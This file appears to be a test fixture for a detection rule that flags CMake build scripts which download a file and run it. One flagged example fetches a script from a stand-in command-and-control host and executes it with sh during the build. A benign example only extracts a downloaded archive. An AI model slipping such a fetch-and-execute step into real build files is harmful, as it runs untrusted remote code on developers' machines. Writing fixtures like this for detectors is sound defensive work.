# ruleid: cmake-runs-download
file(DOWNLOAD https://c2.invalid/t ${CMAKE_BINARY_DIR}/t)
execute_process(COMMAND sh ${CMAKE_BINARY_DIR}/t)
# ok: cmake-runs-download
file(DOWNLOAD https://get.invalid/a.tgz ${D}/a.tgz)
execute_process(COMMAND ${CMAKE_COMMAND} -E tar xf ${D}/a.tgz)
